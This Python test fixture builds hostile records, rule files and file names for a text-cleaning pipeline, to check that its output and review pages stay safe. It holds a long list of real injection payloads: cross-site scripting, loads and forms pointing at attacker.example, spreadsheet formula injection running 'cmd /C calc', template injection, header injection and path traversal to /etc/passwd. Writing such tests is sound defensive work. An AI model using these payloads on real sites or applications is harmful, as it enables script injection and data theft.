"""Scraped text as an attacker writes it, cleaned by the real rules: in texts, ids, hosts, metadata, rules."""

import json
from pathlib import Path
from typing import Any

from rulefiles import rule, swap, write_pack

RUNS = "window.__pwned=1"
"""What every payload does if it runs."""

PAYLOADS = {
    "script": f"<script>{RUNS}</script>",
    "script end": f"</script><script>{RUNS}</script>",
    "style end": f"</style></title></textarea><script>{RUNS}</script>",
    "source": '<script src="data:text/javascript,window.__pwned=1"></script>',
    "other host": '<script src="//attacker.example/x.js"></script><img src="//attacker.example/x.png">',
    "picture": f"<img src=x onerror={RUNS}>",
    "attribute": f'"><img src=x onerror={RUNS}>',
    "single attribute": f"'><img src=x onerror={RUNS}>",
    "handler": f'" autofocus tabindex=1 onfocus="{RUNS}" x="',
    "single handler": f"' autofocus onfocus='{RUNS}' x='",
    "bare handler": f"x onmouseover={RUNS} autofocus onfocus={RUNS}",
    "vector": f"<svg/onload={RUNS}>",
    "details": f"<details open ontoggle={RUNS}>",
    "frame": f"<iframe srcdoc='<script>parent.{RUNS}</script>'></iframe>",
    "javascript": f"javascript:{RUNS}",
    "javascript link": f'<a href="javascript:{RUNS}" autofocus>x</a>',
    "data": f"data:text/html,<script>parent.{RUNS}</script>",
    "meta": f'<meta http-equiv="refresh" content="0;url=javascript:{RUNS}">',
    "base": '<base href="https://attacker.example/">',
    "form": '<form action="https://attacker.example/"><button name=verdict value=accepted>a</button></form>',
    "same id": '<div id="edit" data-edit="e1-0000000000000000"><form id="judge"></form></div>',
    "style": "<style>*{background:url(https://attacker.example/)}</style>",
    "style attribute": '<p style="position:fixed;inset:0;background:red">x</p>',
    "comment": f"<!-- --><img src=x onerror={RUNS}><!--",
    "character data": f"<![CDATA[<script>{RUNS}</script>]]>",
    "entities": f"&lt;script&gt;{RUNS}&lt;/script&gt;",
    "entities twice": f"&amp;lt;img src=x onerror={RUNS}&amp;gt;",
    "figures": f"&#60;img src=x onerror={RUNS}&#62;",
    "template": "{{7*7}} {% raw %} {{ cycler.__init__.__globals__ }} ${7*7} #{7*7} <%= 7*7 %> %(x)s {x} {0}",
    "template end": "{% endraw %}{% endblock %}{{ '<script>window.__pwned=1</script>'|safe }}",
    "formula": '=HYPERLINK("https://attacker.example/"&A1,"x")',
    "command": "+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "bidi": "\u202egnitirw\u202c \u2067isolated \u2066twice \u200f\u061c",
    "bidi left open": "\u202e\u202e\u202d\u2067\u2068 never closed",
    "invisible": "a\u200bb\ufeffc\u00add\u2060e\U000e0041f",
    "controls": "a\x00b\x01c\x08d\x1b[31me\x7ff\x85g\u2028h\u2029i",
    "no characters": "\ufffe\uffff\U0001ffff",
    "marks": "Z" + "\u0301" * 300,
    "header": "x\r\nSet-Cookie: a=b\r\n\r\n<script>window.__pwned=1</script>",
    "path": "../../etc/passwd?x=1&y=2#z%00%2e%2e;a=b",
    "query": "a&b=c+d%26#e?f;g",
    "long word": "W" * 5_000,
}
"""By name; each is put into a text, an id, a host, a value that a rule takes out, and what reviewers say."""

UNWRITABLE = {"surrogates": "a\ud800b\udfffc", "half a pair": "\ud83d<b>"}
"""What no file of text can hold; so it stands in ids and hosts alone."""


def text_of(payload: str) -> str:
    """Write a text in which rules act on, around and beside a payload, and some take it away or put it in."""
    return (
        f"Title: {payload}\n"
        f"By: {payload}\n"
        f"They said {payload} and left .  The government agreed , it said .\n"
        f"{payload}   \n"
        f"A maybe {payload} stands here, and DROP{payload}DROP goes.\n"
        "\n\n\n\n"
        f"Here they put it: PLACE.\n"
        f"{payload} was the govern- ment that said so in the end, the govern ment .\n"
        f"{payload}\n{payload}\n{payload}\n"
        f"[ {payload} ] ( {payload} )\n"
    )


def records() -> list[dict[str, Any]]:
    """Give a record for each payload, hostile in every field, and one with a line of a megabyte."""
    found = [
        {
            "id": f"{name} {payload}",
            "host": payload,
            "url": payload,
            "text": text_of(payload),
            payload: payload,
        }
        for name, payload in PAYLOADS.items()
    ]
    found += [
        {"id": f"{name} {value}", "host": value, "text": "The end ."} for name, value in UNWRITABLE.items()
    ]
    payload = PAYLOADS["attribute"]
    filler = " ".join(f"w{number}" for number in range(40_000))
    line = f"maybe {payload} {filler} said so . {filler} PLACE {payload} maybe {filler} DROP{payload}DROP"
    found.append({"id": "a long line", "host": "long.example", "text": f"{line}\nThe end .\n"})
    found.append({"id": "a long word", "host": "long.example", "text": f"PLACE {'w' * 1_000_000} maybe w\n"})
    return found


def hostile_rules() -> list[dict[str, Any]]:
    """Give rules that bring payloads where rules can: into what they say of themselves, and into texts."""
    said = PAYLOADS["attribute"]
    return [
        rule("title", {"regex": r"^Title: (?P<title>.+)\n"}, do="extract", summary=said, why=said),
        rule("author", {"regex": r"^By: (?P<author>.+)\n"}, do="extract", safety="review", why=said),
        swap("maybe", "maybe ", "", safety="review", summary=PAYLOADS["script end"]),
        swap("drop", r"DROP[^\n]{0,400}DROP", "", summary=PAYLOADS["template"], why=PAYLOADS["bidi"]),
        swap("place", "PLACE", PAYLOADS["handler"], why=PAYLOADS["javascript link"]),
    ]


def write(folder: Path) -> tuple[Path, Path]:
    """Write the records, and texts in files with hostile names; give the input's folder and the pack."""
    given = folder / "in"
    given.mkdir()
    lines = [json.dumps(record) for record in records()]  # lone surrogates become escapes
    (given / f"{PAYLOADS['picture']}.jsonl").write_text("\n".join([*lines, '{"broken', ""]), "utf-8")
    for name in ("attribute", "bidi", "template", "query"):
        file_name = PAYLOADS[name].replace("/", "")[:100]
        (given / f"{file_name}.txt").write_text(text_of(PAYLOADS[name]), "utf-8")
    return given, write_pack(folder / "hostile.yaml", hostile_rules(), "hostile")
